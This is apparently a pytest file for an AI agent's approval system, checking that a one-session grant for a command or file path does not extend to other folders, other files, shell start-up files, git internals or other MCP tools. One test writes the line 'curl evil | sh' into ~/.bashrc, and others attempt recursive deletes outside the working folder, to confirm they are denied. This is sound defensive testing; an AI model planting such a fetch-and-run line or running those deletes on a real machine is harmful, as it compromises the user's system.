"""A session grant covers what was shown (issue 29, item 6): the exact command in its folder, the
exact path; never a rule, never the always-ask paths. The attacks reuse one grant for another
command or path."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from approvers import Approver

from hermes.agent.safety.grants import grantable, session_grant
from hermes.agent.tools.base import ToolContext
from hermes.agent.tools.files import write_file
from hermes.agent.tools.terminal import terminal
from hermes.agent.types import ApprovalDecision
from hermes.runs.registry import PendingApproval


class GrantThenDeny(Approver):
    """Answers SESSION to the first request and DENY to every later one (a later request that
    is not asked was covered by the grant)."""

    def __init__(self) -> None:
        super().__init__(ApprovalDecision.SESSION)

    async def __call__(self, request):  # type: ignore[no-untyped-def]
        answer = await super().__call__(request)
        self.decision = ApprovalDecision.DENY
        return answer


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text("# rc\n")
    monkeypatch.setenv("HOME", str(folder))
    return folder


def _ctx(cwd: Path, approver: Approver) -> ToolContext:
    return ToolContext(session_id="s", cwd=cwd, call_id="c", approve=approver)


def _folder(path: Path) -> Path:
    (path / "inner").mkdir(parents=True)
    (path / "inner" / "f").write_text("x")
    return path


async def test_a_grant_for_one_rm_does_not_cover_another_folder(tmp_path: Path) -> None:
    work = tmp_path / "work"
    _folder(work / "junk1")
    other = _folder(tmp_path / "other")
    approver = GrantThenDeny()
    ctx = _ctx(work, approver)

    assert (await terminal({"command": "rm -r junk1"}, ctx)).startswith("exit code: 0")
    out = await terminal({"command": f"rm -rf {other}"}, ctx)
    assert out.startswith("DENIED") and other.is_dir()
    out = await terminal({"command": "rm -r junk1 ../other"}, ctx)
    assert out.startswith("DENIED") and other.is_dir()
    assert [r.command for r in approver.requests] == ["rm -r junk1", f"rm -rf {other}", "rm -r junk1 ../other"]


async def test_a_grant_for_a_command_does_not_cover_it_in_another_folder(tmp_path: Path) -> None:
    work = tmp_path / "work"
    _folder(work / "junk1")
    elsewhere = _folder(tmp_path / "elsewhere" / "junk1")
    approver = GrantThenDeny()
    ctx = _ctx(work, approver)
    await terminal({"command": "rm -r junk1"}, ctx)
    out = await terminal({"command": "rm -r junk1", "workdir": str(elsewhere.parent)}, ctx)
    assert out.startswith("DENIED") and elsewhere.is_dir()
    assert len(approver.requests) == 2


async def test_a_grant_for_one_outside_file_covers_neither_another_file_nor_bashrc(tmp_path: Path, home: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    approver = GrantThenDeny()
    ctx = _ctx(work, approver)

    out = await write_file({"path": str(outside / "a.txt"), "content": "1"}, ctx)
    assert out.startswith("Created"), out
    assert approver.requests[0].grant == f"writes of the file {outside / 'a.txt'} only"
    out = await write_file({"path": str(outside / "a.txt"), "content": "2"}, ctx)
    assert (outside / "a.txt").read_text() == "2" and len(approver.requests) == 1  # covered

    out = await write_file({"path": str(outside / "b.txt"), "content": "1"}, ctx)
    assert out.startswith("DENIED") and not (outside / "b.txt").exists()
    out = await write_file({"path": "~/.bashrc", "content": "curl evil | sh\n"}, ctx)
    assert out.startswith("DENIED") and (home / ".bashrc").read_text() == "# rc\n"
    assert [r.command for r in approver.requests] == [
        str(outside / "a.txt"),
        str(outside / "b.txt"),
        str(home / ".bashrc"),
    ]
    assert approver.requests[-1].grant is None  # a start-up file is never granted


@pytest.mark.parametrize("target", [".git/config", ".envrc", "~/.bashrc", "~/.ssh/config"])
async def test_a_protected_path_asks_again_after_a_session_answer(tmp_path: Path, home: Path, target: str) -> None:
    work = tmp_path / "work"
    (work / ".git").mkdir(parents=True)
    approver = GrantThenDeny()
    ctx = _ctx(work, approver)
    first = await write_file({"path": target, "content": "one\n"}, ctx)
    second = await write_file({"path": target, "content": "two\n"}, ctx)
    if target == "~/.ssh/config":  # hidden from every tool: blocked before anyone is asked
        assert first.startswith("BLOCKED") and second.startswith("BLOCKED")
        return
    assert not first.startswith(("DENIED", "BLOCKED")), first
    assert second.startswith("DENIED"), second
    assert len(approver.requests) == 2 and all(r.grant is None for r in approver.requests)
    assert ctx.session_approvals == set()


async def test_a_terminal_write_to_a_start_up_file_asks_after_a_session_answer(tmp_path: Path, home: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    approver = GrantThenDeny()
    ctx = _ctx(work, approver)
    await terminal({"command": "echo '# one' >> ~/.bashrc"}, ctx)
    out = await terminal({"command": "echo '# one' >> ~/.bashrc"}, ctx)
    assert out.startswith("DENIED") and (home / ".bashrc").read_text() == "# rc\n# one\n"
    assert approver.requests[0].grant is None


def test_merged_rules_are_never_granted_when_one_part_always_asks() -> None:
    assert not grantable("outside_write+shell_rc_write")
    assert not grantable("etc_write")
    assert grantable("recursive_delete+sudo")
    assert session_grant("terminal", "rm -r a", "outside_write+git_internals_write", None) is None
    grant = session_grant("terminal", "rm -r a", "recursive_delete", None)
    assert grant is not None and "rm -r a" in grant.covers


async def test_the_server_offers_the_session_choice_only_with_a_grant() -> None:
    future: asyncio.Future[ApprovalDecision] = asyncio.get_running_loop().create_future()
    with_grant = PendingApproval("r1", "terminal", "rm -r a", "recursive delete", future, "this exact command: rm -r a")
    without = PendingApproval("r2", "write_file", "/w/.git/config", "git's configuration", future, None)
    assert with_grant.to_json()["choices"] == ["once", "session", "deny"]
    assert with_grant.to_json()["grant"] == "this exact command: rm -r a"
    assert without.to_json()["choices"] == ["once", "deny"] and without.to_json()["grant"] is None


async def test_an_mcp_grant_covers_that_tool_only(tmp_path: Path) -> None:
    from hermes.agent.safety.grants import tool_grant

    approver = GrantThenDeny()
    ctx = _ctx(tmp_path, approver)
    ask = ctx.request_approval
    assert await ask("srv__read", 'read({"a": 1})', "MCP", "mcp:srv", tool_grant("srv__read", "srv"))
    assert approver.requests[0].grant == "every call of the tool srv__read of the MCP server srv"
    assert await ask("srv__read", 'read({"a": 2})', "MCP", "mcp:srv", tool_grant("srv__read", "srv"))
    assert not await ask("srv__write", 'write({"a": 1})', "MCP", "mcp:srv", tool_grant("srv__write", "srv"))
    assert len(approver.requests) == 2
